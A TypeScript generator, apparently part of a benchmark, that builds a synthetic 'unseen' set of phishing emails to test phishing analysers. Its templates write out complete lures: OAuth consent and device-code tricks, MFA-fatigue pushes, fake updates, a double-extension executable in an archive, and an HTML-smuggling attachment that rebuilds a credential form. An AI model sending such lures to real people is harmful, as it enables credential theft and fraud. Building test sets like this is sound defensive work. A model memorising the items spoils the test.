// The eighth unseen phishing set: the mass credential phishing a reporting mailbox fills with in 2025–2026
// (held messages, shared files, streaming and webmail accounts, a survey, an account "closure" to cancel,
// a password manager's inheritance request, a game account's trade report) beside rarer lures (a browser
// extension's developer asked to consent, a CRM's connected-app code read out over the phone, pushes to
// approve during a "migration", a VPN client and a browser "update", a creator's sponsorship archive, a
// holiday calendar that rebuilds a login page, a redirect through a search engine's AMP cache), written
// from vendors' and CERTs' public descriptions without the analysers in sight, every message filled from
// the seed; the fraud, scams and local-language lures of the set are in unseen-8-local.ts and join these
// here. Every attacker's domain is reserved or made up; a real service's domain appears only where the
// attack abuses that service; attachments are inert.
import type { SeededRandom } from './generate.js';
import { qrPng, zipOf } from './payloads.js';
import { page, type UnseenMessage } from './unseen-3.js';
import { authResults, domainOf, type EncodedEntry, fillEncoded, uuid } from './unseen-4.js';
import { attach, combosquat, pdfAttachment, signed, TENANT } from './unseen-5-parts.js';
import { LOCAL_ENTRIES } from './unseen-8-local.js';
import { invitation, protectedZip } from './unseen-payloads.js';

/** A victim's address in a link's query, as kits prefill their login form with it. */
const prefill = (email: string) => Buffer.from(email).toString('base64url');

const LURE_ENTRIES: EncodedEntry[] = [
  // Mailbox and file lures of Microsoft 365 and Google Workspace, sent in bulk.
  {
    kind: 'pending-messages',
    template: 'held-incoming-mail-release',
    write: (s) => {
      const sender = s.borrowed();
      const held = 3 + s.below(9);
      const subjects = s.pick([
        ['Payment confirmation', 'RE: Outstanding balance', 'Contract signed copy'],
        ['Invoice overdue notice', 'Updated purchase order', 'Shared: Q4 budget.xlsx'],
      ]);
      return {
        headers: s.headers('Email Administrator', `postmaster@${sender}`, [signed(sender)]),
        subject: `${held} incoming messages were not delivered to ${s.victim.email}`,
        html: page(
          [
            `Message delivery for <b>${s.victim.email}</b> has been paused because of a synchronisation error on ${s.pick(['Nov 1', 'Nov 2'])}, 2026.`,
            `The following ${held} messages are held on the server:`,
            subjects.map((t) => `&#9993; ${t}`).join('<br>'),
            'Release them to your inbox now; held messages are deleted after 48 hours.',
          ],
          [
            'Release messages',
            `https://${s.host('mail', 'release')}/owa/?rel=${s.token(10)}&u=${prefill(s.victim.email)}`,
          ],
          `This is an automated message from the corp.example mail server. © 2026 Microsoft`,
        ),
      };
    },
  },
  {
    kind: 'shared-document',
    template: 'excel-online-shared-plain-text',
    write: (s) => {
      const sender = s.borrowed();
      const owner = `${s.stranger.first} ${s.stranger.last}`;
      const sheet = `${s.pick(['Remittance', 'Statement', 'PO'])} ${s.digits(5)}.xlsx`;
      return {
        headers: s.headers(owner, `${s.stranger.first.toLowerCase()}@${sender}`, [signed(sender)]),
        subject: `${owner} shared "${sheet}" with you`,
        text: `${owner} shared a file with you.\n\n${sheet}\n\nOpen: https://${s.host('excel', 'view')}/:x:/r/${s.token(16)}\n\nThis link will work for the people it was shared with.\nMicrosoft respects your privacy.`,
      };
    },
  },
  {
    kind: 'account-suspension',
    template: 'workspace-billing-suspension-sites',
    write: (s) => {
      const domain = combosquat(s, 'google.example');
      return {
        headers: s.headers('Google Workspace', `workspace-noreply@${domain}`, [signed(domain)]),
        subject: `[Action required] ${s.company} Google Workspace will be suspended on November 4`,
        html: page(
          [
            '<b>Google Workspace</b>',
            `Hello Administrator,`,
            `We were unable to charge your payment method for the <b>Business Standard</b> subscription of ${s.company} (customer ID C0${s.token(7)}). Services for all users will be suspended on November 4, 2026 unless billing is updated.`,
            'To avoid losing access to Gmail, Drive and Meet, sign in to the Admin console and review your billing details.',
          ],
          ['Review billing', `https://sites.google.com/view/${s.token(8)}-admin-billing/home`],
          'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA',
        ),
      };
    },
  },
  {
    kind: 'staff-survey',
    template: 'annual-engagement-survey-forms',
    transfer: 'quoted-printable',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(`${s.company} People Team`, `hr-survey@${sender}`, [signed(sender)]),
        subject: `2026 Employee Engagement Survey – closes Friday (${s.company})`,
        html: page(
          [
            `Dear ${s.victim.first},`,
            `As every year, ${s.company} is asking all employees to take part in the confidential engagement survey. It takes about 7 minutes. Participants are entered into a draw for an extra day of leave.`,
            'Please sign in with your work account so that your answers are counted once.',
          ],
          [
            'Start the survey',
            `https://${s.host('survey', 'staff')}/forms/${uuid(s)}?email=${encodeURIComponent(s.victim.email)}`,
          ],
          'Your responses are anonymous and reported only in groups of five or more.',
        ),
      };
    },
  },
  {
    kind: 'cancel-request-lure',
    template: 'account-closure-cancel-link',
    write: (s) => {
      const domain = s.host('account', 'live');
      return {
        headers: s.headers('Microsoft account', `no-reply@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: 'We received a request to close your Microsoft account',
        html: page(
          [
            `A request to permanently close the Microsoft account <b>${s.victim.email}</b> was submitted on 11/2/2026 from ${s.pick(['Jakarta, Indonesia', 'Minsk, Belarus', 'Lagos, Nigeria'])}.`,
            'All mail, OneDrive files and subscriptions will be deleted in 24 hours.',
            "If you didn't make this request, cancel it now:",
          ],
          ['Cancel the request', `https://${domain}/recover/cancel?id=${s.hex(24)}`],
          'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ),
      };
    },
  },
  {
    kind: 'password-manager-lure',
    template: 'vault-legacy-access-request',
    write: (s) => {
      const domain = combosquat(s, 'vaultkeeper.example');
      const requester = s.stranger.name;
      return {
        headers: s.headers('Vaultkeeper Support', `support@${domain}`, [signed(domain)]),
        subject: 'Emergency access request: a death certificate was uploaded for your account',
        html: page(
          [
            `Hello ${s.victim.first},`,
            `${requester} has requested emergency (legacy) access to your password vault and uploaded a death certificate. If the request is not cancelled, access to all stored passwords will be granted in <b>12 hours</b>.`,
            'If you are alive and did not authorise this, verify your master password below to revoke the request and secure your vault.',
          ],
          ['Revoke access', `https://${domain}/legacy/revoke?case=${s.digits(8)}`],
          `Request ID ${uuid(s)}. Vaultkeeper will never ask for your master password by email.`,
        ),
      };
    },
  },
  {
    kind: 'gaming-account',
    template: 'game-store-trade-report',
    write: (s) => {
      const domain = s.host('steamcommunlty', 'trade');
      const player = s.pick(['xXn1ghtOwlXx', 'fragmaster_77', 'lilbanana', 'Kestrel_ttv']);
      return {
        headers: s.headers('Steam Support', `noreply@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: `Your Steam account was reported for a fraudulent trade (case ${s.digits(6)})`,
        text: [
          `Hello,`,
          '',
          `The player "${player}" reported that you sent items to their account by mistake during a trade on November 1.`,
          'While our moderators review the case, your inventory is locked and your account may be banned from the Community Market.',
          '',
          `If this report is wrong, sign in and file an appeal within 24 hours: https://${domain}/tradeoffer/appeal/${s.digits(10)}`,
          '',
          'Steam Support',
        ].join('\n'),
      };
    },
  },
  // Consent, codes and pushes.
  {
    kind: 'extension-developer-consent',
    template: 'web-store-policy-consent',
    write: (s) => {
      const domain = combosquat(s, 'chromewebstore.example');
      const client = `${s.digits(12)}-${s.token(32)}.apps.googleusercontent.com`;
      const redirect = encodeURIComponent(`https://${s.host('policy', 'ext')}/callback`);
      return {
        headers: s.headers('Chrome Web Store Developer Support', `no-reply@${domain}`, [signed(domain)]),
        subject: `Item ${s.token(32)}: violation of Chrome Web Store policy`,
        html: page(
          [
            'Dear Developer,',
            'Your extension has been flagged for removal: its description contains excessive or irrelevant information, which violates the Chrome Web Store Program Policies (Relevant Information).',
            'To keep your extension published, accept the updated <b>Privacy Policy Extension</b> requirements for your developer account within 48 hours.',
          ],
          [
            'Go To Policy',
            `https://accounts.google.com/o/oauth2/v2/auth?client_id=${client}&response_type=code&scope=https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fchromewebstore&redirect_uri=${redirect}&access_type=offline`,
          ],
          'Chrome Web Store Developer Support',
        ),
      };
    },
  },
  {
    kind: 'device-code',
    template: 'crm-connected-app-code',
    write: (s) => {
      const domain = s.host(TENANT, 'helpdesk');
      const code = `${s.token(4).toUpperCase()}-${s.token(4).toUpperCase()}`;
      return {
        headers: s.headers('IT Service Desk', `servicedesk@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: `Follow-up to our call – CRM data tool re-authorisation (ticket INC${s.digits(7)})`,
        text: [
          `Hi ${s.victim.first},`,
          '',
          "Thanks for your time on the phone just now. As discussed, the CRM's data export tool lost its connection during last night's maintenance and has to be re-authorised from your account.",
          '',
          '1. Go to https://login.salesforce.com/setup/connect',
          `2. Enter the code: ${code}`,
          '3. Click Allow on the "Data Loader" screen',
          '',
          'The code expires in 10 minutes. Please do it while I stay on the line.',
          '',
          'IT Service Desk',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'mfa-fatigue',
    template: 'approve-pushes-identity-migration',
    write: (s) => {
      const domain = combosquat(s, 'corp.example');
      return {
        headers: s.headers('IT Security', `it-security@${domain}`, [signed(domain)]),
        subject: 'Tonight: identity platform migration – approve the sign-in prompts',
        text: [
          'Hello all,',
          '',
          'Tonight between 19:00 and 21:00 we move every account to the new identity platform.',
          'During this window you will receive several Duo push notifications on your phone. Please APPROVE each of them; declining will lock your account and you will need to come to the service desk in person.',
          '',
          `If you are asked for a number, reply to this email with it and we will complete the move for you.`,
          '',
          'Thank you for your patience,',
          `${s.company} IT Security`,
        ].join('\n'),
      };
    },
  },
  // Downloads dressed as updates and documents.
  {
    kind: 'fake-update',
    template: 'browser-outdated-secure-document',
    write: (s) => {
      const sender = s.borrowed();
      const domain = s.host('browser', 'update');
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${sender}`, [signed(sender)]),
        subject: `Secure document: ${s.pick(['Project proposal', 'Signed contract', 'Quote'])} ${s.digits(4)}`,
        html: page(
          [
            `${s.stranger.name} sent you a secure document.`,
            '<b>Your browser version is out of date and cannot open protected documents.</b> Install the latest update (version 142.0.7444.60) and open the document again.',
          ],
          ['Update browser', `https://${domain}/download/ChromeSetup_${s.digits(6)}.zip`],
          'This message was sent by a secure document service.',
        ),
      };
    },
  },
  {
    kind: 'vpn-client-lure',
    template: 'vpn-client-mandatory-upgrade',
    transfer: 'base64',
    write: (s) => {
      const domain = combosquat(s, 'corp.example');
      return {
        headers: s.headers('Network Operations', `netops@${domain}`, [signed(domain)]),
        subject: 'Mandatory: upgrade your VPN client before Wednesday',
        html: page(
          [
            `Dear ${s.victim.first},`,
            'Because of a critical vulnerability in the current version, the old VPN client will stop connecting on Wednesday 08:00.',
            'Download the new client, run it and sign in with your usual credentials. Administrator rights are not required.',
          ],
          ['Download VPN client 6.3.2', `https://${domain}/software/GlobalProtect64-6.3.2.msi`],
          `${s.company} Network Operations – do not reply to this message.`,
        ),
      };
    },
  },
  {
    kind: 'brand-collaboration',
    template: 'creator-sponsorship-protected-archive',
    write: (s) => {
      const brand = s.pick(['Nordlys Audio', 'Veloce Gear', 'Lumen Skincare', 'Quantix VPN']);
      const password = `${s.token(3)}${s.digits(4)}`;
      const sender = s.freemail(s.stranger);
      return {
        headers: s.headers(`${s.stranger.first} | ${brand} Partnerships`, sender, [signed(domainOf(sender))]),
        subject: `Paid collaboration proposal – ${brand} x your channel`,
        text: [
          `Hi!`,
          '',
          `I'm ${s.stranger.first}, partnerships manager at ${brand}. We love your content and would like to offer a paid integration: $${s.money(1500, 6000)} for a 60–90 second segment in your next video.`,
          '',
          'The brief, the product details and the contract are in the archive below. It is password-protected for confidentiality.',
          `Download: https://${s.host('files', 'share')}/d/${s.token(12)}`,
          `Password: ${password}`,
          '',
          'Looking forward to working together!',
          `${s.stranger.name}`,
        ].join('\n'),
        parts: [
          attach(
            'application/zip',
            `${brand.replace(/ /g, '_')}_brief.zip`,
            protectedZip('Brief.pdf.exe', s.below(10_000)),
          ),
        ],
      };
    },
  },
  {
    kind: 'html-smuggling',
    template: 'holiday-calendar-html-rebuilds-login',
    write: (s) => {
      const sender = s.borrowed();
      const action = `https://${s.host('hr', 'calendar')}/auth.php`;
      const form = Buffer.from(
        `<form method="post" action="${action}"><h3>${s.company} – sign in to view</h3><input name="u" value="${s.victim.email}"><input type="password" name="p"><button>Open</button></form>`,
      ).toString('base64');
      return {
        headers: s.headers(`${s.company} HR`, `hr@${sender}`, [signed(sender)]),
        subject: '2027 public holidays and office closure calendar',
        text: `Hello,\n\nPlease find attached the 2027 holiday calendar and the office closure days approved by management. Open the file to add the dates to your calendar.\n\nKind regards,\nHuman Resources`,
        parts: [
          attach(
            'text/html',
            `Holiday_Calendar_2027_${s.victim.last}.html`,
            `<html><head><meta charset="utf-8"><title>Calendar 2027</title></head><body><div id="c"></div><script>document.getElementById("c").innerHTML=atob("${form}")</script></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'benefits-enrolment-qr-inline',
    write: async (s) => {
      const sender = s.borrowed();
      const link = `https://${s.host('benefits', 'enrol')}/m/${s.token(10)}#${prefill(s.victim.email)}`;
      return {
        headers: s.headers('Benefits Administration', `benefits@${sender}`, [signed(sender)]),
        subject: `Open enrolment 2027: confirm your elections – ${s.victim.name}`,
        html: page([
          `Hello ${s.victim.first},`,
          'Your 2027 benefit elections have not been confirmed. For security, the enrolment portal is only available from a mobile device.',
          'Scan the code with your phone camera and sign in with your work account:',
          '<img src="cid:enrol.png" width="200" alt="">',
          'Unconfirmed elections default to the basic plan on December 1.',
        ]),
        parts: [{ ...attach('image/png', 'enrol.png', await qrPng(link)), inline: true }],
      };
    },
  },
  {
    kind: 'open-redirect',
    template: 'amp-cache-shared-file',
    write: (s) => {
      const sender = s.borrowed();
      const target = `${s.host('docs', 'viewer')}/v/${s.token(10)}`;
      return {
        headers: s.headers(`${s.stranger.name} via Dropbox`, `no-reply@${sender}`, [signed(sender)]),
        subject: `${s.stranger.first} shared "${s.company} – Payment Details.pdf" with you`,
        html: page(
          [
            `${s.stranger.name} (${s.stranger.first.toLowerCase()}@${sender}) invited you to view the file "<b>${s.company} – Payment Details.pdf</b>".`,
          ],
          ['View file', `https://www.google.com/amp/s/${target}`],
          'Dropbox, Inc., PO Box 77767, San Francisco, CA 94107',
        ),
      };
    },
  },
  {
    kind: 'calendar-invite',
    template: 'compensation-review-invite-link',
    write: (s) => {
      const domain = combosquat(s, 'corp.example');
      const link = `https://${s.host('teams', 'meet')}/l/meetup-join/${s.token(20)}`;
      return {
        headers: s.headers(
          s.boss.name,
          `${s.boss.first.toLowerCase()}.${s.boss.last.toLowerCase()}@${domain}`,
          [signed(domain)],
        ),
        subject: `Invitation: Compensation review – ${s.victim.name} @ Tue Nov 3, 2026 14:00`,
        text: `${s.boss.first} has invited you to a meeting.\n\nCompensation review – ${s.victim.name}\nPlease read the adjustment letter before we meet: ${link}\n\nJoin on your computer or mobile app.`,
        parts: [
          attach(
            'text/calendar',
            'invite.ics',
            invitation({
              uid: `${uuid(s)}@${domain}`,
              organizer: `${s.boss.first.toLowerCase()}@${domain}`,
              attendee: s.victim.email,
              summary: `Compensation review – ${s.victim.name}`,
              description: `Please review your adjustment letter before the meeting: ${link}`,
              location: 'Microsoft Teams Meeting',
              start: '20261103T140000Z',
            }),
          ),
        ],
      };
    },
  },
  {
    kind: 'jury-summons',
    template: 'missed-jury-duty-fine',
    write: (s) => {
      const domain = s.host('county', 'courts');
      return {
        headers: s.headers('Clerk of the Superior Court – Jury Services', `jury@${domain}`, [
          authResults(domain, ['pass', 'none', 'none']),
        ]),
        subject: `Notice of failure to appear for jury service – case ${s.digits(2)}-JS-${s.digits(5)}`,
        text: [
          `${s.victim.name.toUpperCase()}`,
          '',
          'Our records show that you failed to appear for jury service on October 19, 2026 as summoned.',
          `A civil penalty of $${s.money(400, 950)} has been assessed and a bench warrant may be issued if it is not resolved within 48 hours.`,
          '',
          `To resolve this matter, call the jury office at ${s.phone()} or pay the penalty online: https://${domain}/pay`,
          '',
          'Office of the Jury Commissioner',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'callback',
    template: 'tech-support-renewal-pdf',
    write: (s) => {
      const sender = s.freemail(s.stranger);
      const phone = s.phone();
      const amount = s.money(299, 499);
      return {
        headers: s.headers('Geek Desk Billing', sender, [
          authResults(domainOf(sender), ['pass', 'pass', 'pass']),
        ]),
        subject: `Your membership was renewed – receipt #${s.digits(9)}`,
        text: `Hello,\n\nThank you for renewing. Your receipt is attached.\n\nIf you did not authorise this charge, call us within 24 hours at ${phone}.`,
        parts: [
          pdfAttachment(`Receipt_${s.digits(9)}.pdf`, [
            'GEEK DESK – Total Protection, 3 years',
            `Amount charged: USD ${amount}`,
            'Payment method: auto-debit',
            `Questions or cancellation: ${phone}`,
          ]),
        ],
      };
    },
  },
  {
    kind: 'webmail-upgrade',
    template: 'webmail-version-upgrade-short',
    write: (s) => {
      const domain = s.host('webmail', 'upgrade');
      return {
        headers: s.headers('Webmail Support', `support@${domain}`, [
          authResults(domain, ['softfail', 'none', 'none']),
        ]),
        subject: `Upgrade required for ${s.victim.email}`,
        text: `Dear user,\n\nYour mailbox version is outdated. Upgrade now to avoid loss of incoming messages:\nhttps://${domain}/?e=${s.victim.email}\n\nWebmail Support Team`,
      };
    },
  },
  {
    kind: 'archive-attachment',
    template: 'purchase-order-zip-js',
    write: (s) => {
      const sender = s.borrowed();
      const order = `PO-${s.digits(6)}`;
      return {
        headers: s.headers(s.stranger.name, `purchasing@${sender}`, [signed(sender)]),
        subject: `New order ${order} – please confirm`,
        text: `Good day,\n\nKindly find attached our new purchase order. Confirm the price and delivery date at your earliest.\n\nBest regards,\n${s.stranger.name}\nPurchasing Dept.`,
        parts: [attach('application/zip', `${order}.zip`, zipOf(`${order}.pdf.js`))],
      };
    },
  },
];

const ENTRIES: EncodedEntry[] = [...LURE_ENTRIES, ...LOCAL_ENTRIES];

export const UNSEEN_8_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_8_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing8(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fillEncoded(ENTRIES, perTemplate, seed, seededRandom, 8_000_000);
}
